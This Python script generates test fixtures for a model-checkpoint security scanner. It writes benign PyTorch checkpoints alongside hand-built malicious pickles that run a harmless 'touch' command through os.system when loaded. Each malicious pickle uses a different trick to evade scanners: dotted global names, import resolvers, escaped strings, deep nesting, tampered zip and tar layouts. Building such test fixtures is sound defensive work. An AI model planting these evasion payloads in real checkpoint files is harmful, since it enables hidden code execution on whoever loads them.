#!/usr/bin/python3
"""Write the scan fixtures of issue #14 into internal/ckpt/testdata/malicious.

Run with Debian's PyTorch (python3-torch), after gen-ckpt-fixtures.py
(which empties that directory):

    /usr/bin/python3 scripts/gen-malicious-fixtures.py [OUTDIR]

Two kinds of files:

- attack_*: pickles that run code when torch.load (weights_only=False, the
  torch 1.13 default) opens them, each hiding its payload from a scanner
  that only matches plain names or stops where it cannot decode. Every
  payload creates the file PWNED ("vg-pwned") in the current directory;
  the Go test TestMaliciousFixturesRunUnderTorch loads each with torch in a
  temp dir and checks that it appears, and TestScanAttacks checks that
  `ckpt scan` fails on each and names the finding. They are written byte by
  byte here and never loaded by this script.
- benign_*: checkpoints written by real torch.save that scan must pass:
  whole nn.Module saves made of torch.nn layers (both formats), quantized
  and sparse tensors, protocol 4, a full training checkpoint with RNG and
  numpy state.
"""
import os
import random
import struct
import sys
import zipfile

import numpy as np
import torch
import torch.nn as nn

PWNED = "vg-pwned"
CMD = "touch " + PWNED

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
    os.path.dirname(__file__), "..", "internal", "ckpt", "testdata", "malicious")
OUT = os.path.abspath(OUT)


def binunicode(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def short_binunicode(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


# os.system(CMD) in protocol 0 opcodes; what the prefixes below hide.
PAYLOAD = b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."


def attacks():
    a = {}
    # GLOBAL with a dotted name: find_class walks it with getattr from the
    # module when the protocol in force is 4 or more.
    a["attack_dotted_global.pkl"] = (
        b"\x80\x04ctorch\nserialization.os.system\n" + binunicode(CMD) + b"\x85R.")
    # STACK_GLOBAL with a dotted name that no denylist names: pathlib +
    # Path.write_text(Path(PWNED), "x").
    a["attack_dotted_stack_global.pkl"] = (
        b"\x80\x04" + short_binunicode("pathlib") + short_binunicode("Path.write_text") + b"\x93" +
        short_binunicode("pathlib") + short_binunicode("Path") + b"\x93" + short_binunicode(PWNED) + b"\x85R" +
        short_binunicode("x") + b"\x86R.")
    # A resolver: torch._utils._import_dotted_name("os.system")(CMD).
    a["attack_import_dotted_name.pkl"] = (
        b"\x80\x02ctorch._utils\n_import_dotted_name\n" + binunicode("os.system") + b"\x85R" +
        binunicode(CMD) + b"\x85R.")
    # The same resolver reached by a dotted name from the torch package.
    a["attack_import_dotted_name_dotted.pkl"] = (
        b"\x80\x04ctorch\n_utils._import_dotted_name\n" + binunicode("os.system") + b"\x85R" +
        binunicode(CMD) + b"\x85R.")
    # STRING operands spelled with escapes (octal, \x): STACK_GLOBAL('os', 'system').
    a["attack_string_escapes.pkl"] = (
        b"S'\\157\\163'\nS'sys\\x74em'\n\x93(S'" + CMD.encode() + b"'\ntR.")
    # UNICODE operands spelled with raw-unicode-escape.
    a["attack_unicode_escapes.pkl"] = (
        b"Vo\\u0073\nVsy\\u0073tem\n\x93(V" + CMD.encode() + b"\ntR.")
    # Input Python reads and a strict decoder refuses, before the payload:
    # nesting deeper than a recursion or depth limit,
    a["attack_deep_lists.pkl"] = b"\x80\x02" + b"]" * 3000 + b"a" * 2999 + b"0" + PAYLOAD
    # more MARKs than a fixed mark limit,
    a["attack_deep_marks.pkl"] = b"\x80\x02" + b"(" * 20000 + b"t" * 20000 + b"0" + PAYLOAD
    # a memo key with a space and one with an underscore,
    a["attack_memo_key_space.pkl"] = b"Np 1\n0g 1\n0Np1_0\n0" + PAYLOAD
    # an INT in hexadecimal and C octal, a LONG in binary,
    a["attack_int_base.pkl"] = b"I0x10\n0I010\n0L0b101L\n0" + PAYLOAD
    # a lone surrogate in a BINUNICODE string (utf-8, surrogatepass),
    a["attack_surrogate.pkl"] = b"\x80\x04\x8c\x03\xed\xa0\x800" + PAYLOAD
    # a FLOAT ended by a NUL byte.
    a["attack_float_nul.pkl"] = b"F1.5\x00junk\n0" + PAYLOAD
    return a


def torch_zip_attack(path):
    """A real torch zip whose data.pkl reaches os.system by a dotted name."""
    tmp = path + ".tmp"
    torch.save({"epoch": 1, "w": torch.ones(2)}, tmp)
    with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = (b"\x80\x04ctorch\nserialization.os.system\n" + binunicode(CMD) + b"\x85R.")
            zout.writestr(info, data)
    os.remove(tmp)


def tar_attack(path):
    """A pre-1.0 torch tar (torch.load still reads the layout) whose payload
    is the second pickle of the storages record: the per-storage pickle,
    which follows the count and which a scanner reading one pickle per
    record never sees."""
    import io
    import tarfile
    storages = b"\x80\x02K\x01." + b"\x80\x02" + PAYLOAD
    records = {"sys_info": b"\x80\x02}q\x00.", "storages": storages,
               "tensors": b"\x80\x02K\x00.", "pickle": b"\x80\x02}q\x00."}
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in records.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))


class Net(nn.Module):
    pass


def benign():
    torch.manual_seed(0)
    model = nn.Sequential(
        nn.Conv2d(1, 4, 3), nn.BatchNorm2d(4), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten(),
        nn.Linear(4, 8), nn.Dropout(0.1), nn.LayerNorm(8), nn.GELU(), nn.Linear(8, 2))
    extra = nn.ModuleDict({
        "emb": nn.Embedding(10, 4), "lstm": nn.LSTM(4, 4, batch_first=True),
        "enc": nn.TransformerEncoderLayer(d_model=4, nhead=2, dim_feedforward=8),
        "convt": nn.ConvTranspose1d(2, 2, 3), "gn": nn.GroupNorm(2, 4)})
    torch.save(model, os.path.join(OUT, "benign_module_nn.pt"))
    torch.save(extra, os.path.join(OUT, "benign_module_nn_more.pt"))
    torch.save(model, os.path.join(OUT, "benign_module_nn_legacy.pt"), _use_new_zipfile_serialization=False)

    x = torch.randn(4, 3)
    q = torch.quantize_per_tensor(x, 0.1, 3, torch.quint8)
    qc = torch.quantize_per_channel(x, torch.tensor([0.1, 0.2, 0.3, 0.4]), torch.tensor([0, 1, 2, 3]), 0, torch.qint8)
    torch.save({"q": q, "qc": qc, "q32": torch.quantize_per_tensor(x, 0.5, 0, torch.qint32)},
               os.path.join(OUT, "benign_quantized.pt"))
    coo = torch.sparse_coo_tensor(torch.tensor([[0, 1], [1, 0]]), torch.tensor([1.0, 2.0]), (2, 2))
    csr = torch.eye(3).to_sparse_csr()
    torch.save({"coo": coo, "csr": csr}, os.path.join(OUT, "benign_sparse.pt"))
    torch.save({"coo": coo}, os.path.join(OUT, "benign_sparse_legacy.pt"), _use_new_zipfile_serialization=False)

    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(2, 1, 4, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    ckpt = {
        "epoch": 3, "step": 300, "model": model.state_dict(), "optimizer": opt.state_dict(),
        "scheduler": sched.state_dict(), "torch_rng": torch.get_rng_state(),
        "numpy_rng": np.random.get_state(), "python_rng": random.getstate(),
        "history": np.arange(5, dtype=np.float32), "best": np.float64(0.5), "tags": {"a", "b"},
        "raw": b"\x00\x01", "cplx": 1 + 2j,
    }
    torch.save(ckpt, os.path.join(OUT, "benign_training_full.pt"))
    torch.save(ckpt, os.path.join(OUT, "benign_training_full_legacy.pt"), _use_new_zipfile_serialization=False)
    torch.save(model.state_dict(), os.path.join(OUT, "benign_proto4.pt"), pickle_protocol=4)
    # A whole model with a class of its own: scan must fail it unless
    # --allow __main__.Net.
    torch.save(Net(), os.path.join(OUT, "benign_own_class.pt"))


def main():
    os.makedirs(OUT, exist_ok=True)
    for name, data in attacks().items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
    torch_zip_attack(os.path.join(OUT, "attack_torch_zip_dotted.pt"))
    tar_attack(os.path.join(OUT, "attack_tar_storages.tar"))
    benign()


if __name__ == "__main__":
    main()
